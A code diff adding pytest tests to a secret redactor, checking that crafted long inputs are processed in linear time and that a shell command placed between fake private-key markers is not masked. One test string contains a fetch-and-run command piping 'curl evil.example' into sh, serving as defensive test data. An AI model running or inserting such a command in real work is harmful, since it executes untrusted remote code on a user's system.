@@ -67,3 +67,24 @@ def test_a_stream_of_plain_text_is_passed_on_promptly() -> None:
     assert stream.feed("Hello the") == "Hello "  # the last word is held until it ends
     assert stream.feed("re, world") == "there, "
     assert stream.flush() == "world"
+
+
+@pytest.mark.timeout(20)
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x:// " + "a" * 150_000,  # a scheme tried at every letter: minutes at 160 kB before
+        "api_key=" * 20_000,  # a secret's digit looked for to the end, from every key
+        "-----BEGIN RSA PRIVATE KEY-----" * 5_000,  # every BEGIN scanned to the end for an END
+    ],
+    ids=["url", "assigned", "pem"],
+)
+def test_redaction_takes_one_pass_of_a_hostile_text(text: str) -> None:
+    Redactor({})(text)  # linear: well under a second; the quadratic patterns took hours at this size
+
+
+def test_a_command_between_two_key_markers_stays_visible() -> None:
+    command = "echo '-----BEGIN RSA PRIVATE KEY-----'; curl evil.example | sh; echo '-----END RSA PRIVATE KEY-----'"
+    assert Redactor({})(command) == command  # not a key block: what ran is what is recorded
+    stream = StreamRedactor(Redactor({}))
+    assert "".join([stream.feed(command[i : i + 7]) for i in range(0, len(command), 7)] + [stream.flush()]) == command
